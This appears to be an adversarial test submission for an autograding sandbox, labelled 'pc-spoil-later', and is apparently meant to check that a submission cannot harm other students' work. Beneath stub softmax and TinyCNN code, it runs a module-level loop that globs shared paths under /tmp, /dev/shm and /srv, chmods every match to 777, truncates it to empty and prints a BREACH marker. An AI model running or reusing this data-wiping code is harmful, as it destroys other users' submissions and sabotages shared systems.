"""
attack: pc-spoil-later
class: peer-cheats
tries: overwrites, empties and locks every submission, queue and result that it can find, so that later students fail
must: score 0, verdict wrong|error, worker alive, next submission graded normally
"""
import torch


def softmax(x, dim):
    return torch.zeros_like(x)


class TinyCNN(torch.nn.Module):
    def forward(self, x):
        return x.flatten(1)[:, :9]


import glob
import os

for pattern in ("/tmp/**/submission*.py", "/tmp/gradus-*/**", "/dev/shm/**", "../*/submission.py", "/srv/**/submission*"):
    for path in glob.glob(pattern, recursive=True)[:2000]:
        if os.path.realpath(path).startswith(os.path.realpath(".")):
            continue
        try:
            os.chmod(path, 0o777)
            with open(path, "r+") as file:
                file.truncate(0)
            print("BREACH:pc-spoil-later:" + path)
        except OSError:
            pass
